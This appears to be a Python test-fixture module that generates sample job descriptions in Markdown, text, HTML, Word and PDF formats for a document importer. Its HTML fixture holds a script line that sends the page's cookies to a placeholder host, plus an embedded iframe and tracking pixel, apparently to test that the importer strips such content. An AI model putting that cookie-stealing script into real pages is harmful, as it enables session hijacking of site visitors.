"""Job description documents written for the tests, in every format the importer reads.

Word and PDF files are built here (python-docx; a PDF of hand-built bytes) rather than
committed as opaque binaries.
"""

from __future__ import annotations

import io

FAMILY_MD = """\
---
title: "Backend Engineer"
---

# Backend Engineer

Backend Engineers at Acme build the services behind the product.

## Responsibilities

- Write and review code for the backend services
- Take part in the on-call rotation

## Requirements

- Fluency in Python or Go
- Ability to explain technical ideas in writing

Backend Engineers report to the Backend Engineering Manager.

## Levels

### Intermediate Backend Engineer

#### Intermediate Backend Engineer Responsibilities

* Deliver small features end to end with guidance
* Fix bugs in the services the team owns
* Write tests for the code they change

#### Intermediate Backend Engineer Requirements

* 2+ years of experience building web services

### Senior Backend Engineer

#### Senior Backend Engineer Responsibilities

* Lead the design of features across several services
* Mentor intermediate engineers
* Improve the performance and reliability of the services

#### Senior Backend Engineer Requirements

* 5+ years of experience building web services

### Staff Backend Engineer

#### Staff Backend Engineer Responsibilities

1. Set the technical direction of a group of teams
2. Solve the hardest problems of the platform
3. Represent the team in architecture reviews

## Performance Indicators

* Merge requests merged per month

## Specialties

### Database

#### Requirements

* Deep knowledge of PostgreSQL

## Hiring Process

1. A screening call with a recruiter
2. A technical interview with an engineer

## Recommended

- Frontend Engineer: responsibilities and requirements
"""

MANAGER_MD = """\
# Backend Engineering Manager

The Backend Engineering Manager leads a team of backend engineers.

## Responsibilities

- Hire and grow a team of backend engineers
- Plan the team's work with product management
- Hold weekly one-to-ones with every engineer

## Reporting

Reports to the Director of Engineering.
"""

NUMBERED_TXT = """\
JOB DESCRIPTION OF THE HEAD OF THE LOGISTICS DEPARTMENT

I. General provisions
1.1. The head of the logistics department belongs to the category of managers.
1.2. The head of the logistics department reports directly to the General Director.
II. Job responsibilities
The head of the logistics department:
2.1. Organises the delivery of goods to customers on time.
2.2. Plans the transport and warehouse capacity of the company.
2.3. Concludes contracts with carriers and forwarders.
2.4. Controls the costs of transport and storage.
2.5. Keeps records of shipments and prepares reports for management.
III. Rights
The head of the logistics department has the right to:
3.1. Sign contracts with carriers within the approved budget.
3.2. Submit proposals on hiring and dismissal of the department’s staff.
3.3. Give instructions to the department’s employees on the schedule of shipments.
IV. Responsibility
The head of the logistics department is responsible for:
4.1. Failure to perform the duties of this job description.
4.2. Damage caused to the company through his fault.
"""

US_POSTING_HTML = """\
<!DOCTYPE html>
<html><head><title>Customer Success Manager | Acme Careers</title>
<script>document.location = "http://example.invalid/steal?c=" + document.cookie;</script>
<style>body { color: red }</style>
<link rel="stylesheet" href="http://example.invalid/style.css">
</head>
<body>
<nav><ul><li>Home</li><li>Jobs</li><li>Blog</li></ul></nav>
<header><p>Acme careers</p></header>
<main>
<h1>Customer Success Manager</h1>
<p>Department: Sales</p>
<p>We are looking for a Customer Success Manager to help our customers get value from
Acme. You will report to the Head of Sales Department.</p>
<h2>What you'll do</h2>
<ul>
<li>Onboard new customers and train their teams</li>
<li>Run quarterly business reviews with key accounts</li>
<li>Resolve escalated customer issues with the support team</li>
<li>Identify upsell opportunities and hand them to sales</li>
</ul>
<h2>What we're looking for</h2>
<ul>
<li>3+ years of experience in customer success or account management</li>
<li>Bachelor's degree or equivalent experience</li>
<li>Excellent written and spoken communication</li>
</ul>
<p><strong>Nice to have</strong></p>
<ul><li>Experience with SaaS products</li></ul>
<h2>Benefits</h2>
<ul><li>Unlimited paid time off</li><li>Home office budget</li></ul>
<h2>How to apply</h2>
<p>Send your CV to jobs@example.invalid.</p>
<iframe src="http://example.invalid/frame"></iframe>
<img src="http://example.invalid/pixel.png">
</main>
<footer><p>Copyright Acme</p></footer>
</body></html>
"""


def logistics_docx(reports_to: str = "Head of Sales Department") -> bytes:
    """A Word job description: headings by style and by a bold line, a list, a table."""
    from docx import Document

    document = Document()
    document.core_properties.title = "Warehouse Manager"
    document.add_heading("Warehouse Manager", level=1)
    table = document.add_table(rows=3, cols=2)
    for row, (key, value) in zip(table.rows, [("Department", "Logistics"),
                                              ("Reports to", reports_to),
                                              ("Grade", "Manager")]):
        row.cells[0].text, row.cells[1].text = key, value
    document.add_paragraph("The warehouse manager runs the company's central warehouse.")
    document.add_heading("Duties", level=2)
    for duty in ("Receive goods from suppliers and check them against the orders",
                 "Store goods safely and keep the stock records accurate",
                 "Prepare shipments to customers on schedule",
                 "Organise the work of the warehouse staff in shifts"):
        document.add_paragraph(duty, style="List Bullet")
    bold = document.add_paragraph()
    bold.add_run("Requirements").bold = True
    for requirement in ("Three years of warehouse experience",
                        "Knowledge of warehouse management systems"):
        document.add_paragraph(requirement, style="List Bullet")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def text_pdf(lines: list[str]) -> bytes:
    """A one-page PDF with a text layer (Helvetica), built by hand."""
    def escape(text: str) -> str:
        return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")

    content = "BT /F1 11 Tf 14 TL 72 740 Td " + " ".join(
        f"({escape(line)}) Tj T*" for line in lines) + " ET"
    stream = content.encode("latin-1")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for offset in offsets:
        out.write(f"{offset:010d} 00000 n \n".encode())
    out.write(f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n"
              .encode())
    return out.getvalue()


def blank_pdf() -> bytes:
    """A PDF page with no text layer (as a scan has none)."""
    return text_pdf([]).replace(b"BT /F1 11 Tf 14 TL 72 740 Td  ET", b"0 0 m 10 10 l S" + b" " * 21)


ACCOUNTANT_PDF_LINES = [
    "Accountant",
    "Summary",
    "The accountant keeps the books of the company.",
    "Duties",
    "- Record the company's payments and receipts",
    "- Reconcile the bank accounts every month",
    "- Prepare the quarterly VAT returns",
    "- Pay the suppliers' invoices on time",
    "Requirements",
    "- A degree in accounting or finance",
]


# A family whose first level is the page's own heading, grades stated as "is a grade N",
# a family-wide "Reports To" section.
FAMILY_H2_MD = """\
---
title: "Frontend Engineer"
description: "Frontend Engineers at GitLab work on our product."
---

## Frontend Engineer

Frontend Engineers work on the user interface.

### Job Grade

The Frontend Engineer (Intermediate) is a [grade 6](/handbook/total-rewards/compensation/compensation-calculator/#gitlab-job-grades).

### Responsibilities

- Develop features from proposal to polished end result.
- Support the team with code reviews.
- Ship small features independently.

### Requirements

- Professional experience with JavaScript.

## Senior Frontend Engineer

The Senior Frontend Engineer role extends the [Frontend Engineer (Intermediate)](#frontend-engineer) role.

### Job Grade

The Senior Frontend Engineer is a [grade 7](/handbook/).

### Responsibilities

- Advocate for improvements to product quality.
- Solve technical problems of high scope.
- Represent GitLab in the community.

## Staff Frontend Engineer

### Job Grade

The Staff Frontend Engineer is a grade 8.

### Responsibilities

- Help define the architecture.
- Suggest and implement improvements.
- Identify technical debt.

## Reports To

Frontend Engineers report to the Frontend Engineering Manager.

## Performance Indicators

- [Merge request rate](/handbook/)

## Career Ladder

The next step for Frontend Engineers is Staff.

## Hiring Process

- Screening call
"""


# Levels written inside the sections, and a plain text with its sections inline.
LEVELS_INSIDE_MD = """\
# Product Designer

Product designers shape how our customers use the product.

## Responsibilities

### Junior

- Design small features with guidance
- Run usability tests
- Keep the design system up to date

### Senior

- Own the design of a product area
- Mentor junior designers
- Present designs to leadership

## Requirements

### Junior

- A portfolio of design work

### Senior

- Five years of product design experience

You'll report to our VP of Design.
"""

INLINE_TXT = """\
Job Title: Office Administrator
Department: Administration
Reports to: Office Manager

Purpose: Keeps the office running smoothly for everyone.

Responsibilities: order office supplies; greet visitors; manage the meeting room calendar; handle incoming mail

Requirements:
• Two years of administrative experience
• Good command of spreadsheets
"""


# A handbook page: levels with only a line of prose share the family sections; job grades
# stated once for several levels; a specialty that is no level.
HANDBOOK_MD = """\
---
title: "Backend Engineer"
---

Backend Engineers at GitLab work on our product. This includes both the open source version of GitLab and the enterprise editions.

## Responsibilities

* Develop features and improvements to the GitLab product in a secure, well-tested, and performant way
* Collaborate with Product Management and other stakeholders within Engineering
* Craft code that meets our internal standards for style, maintainability, and best practices

## Requirements

* Significant professional experience with Ruby on Rails
* Ability to use GitLab

## Levels

### Junior Backend Engineer

Junior Backend Engineers share the same requirements and responsibilities outlined above, but typically join with less experience.

### Intermediate Backend Engineer

Intermediate Backend Engineers share the same requirements outlined above.

### Senior Backend Engineer

The Senior Backend Engineer role extends the [Backend Engineer](#intermediate-backend-engineer) role.

#### Responsibilities

- Advocate for improvements to product quality, security, and performance.
- Solve technical problems of high scope and complexity.

***A Senior Backend Engineer may want to pursue the [engineering management track](/job-families/engineering/engineering-management/) at this point.***

### Staff Backend Engineer

The Staff Backend Engineer role extends the [Senior Backend Engineer](#senior-backend-engineer) role.

#### Responsibilities

* Help create the sense of psychological safety in the department.
* Provide guidance and mentorship.

### Job Grade

The Backend Engineer (Intermediate) is a [grade 6](/handbook/total-rewards/compensation/compensation-calculator/#gitlab-job-grades).
The Senior Backend Engineer is a [grade 7](/handbook/).

## Specialties

### Database

Database specialists focus on PostgreSQL.

#### Responsibilities

* Tune queries

## Performance Indicators

* [Backend Unit Performance Indicators](/handbook/engineering/)

## Career Ladder

For more details on the engineering career ladders, please review the [engineering career development](/handbook/engineering/career-development/#roles) handbook page.

## Hiring Process

Candidates for this position can expect the hiring process to follow the order below.

* Qualified candidates will be invited to a screening call with our Global Recruiters.
"""


# Several roles of one department in one document, none a level of another.
SEVERAL_ROLES_MD = """\
# Job descriptions of the commercial department

## Head of Sales

### Responsibilities

- Lead the sales team
- Plan the sales
- Negotiate with key customers

## Head of Marketing

### Responsibilities

- Lead the marketing team
- Plan campaigns
- Run market research

Reports to the head of sales.
"""
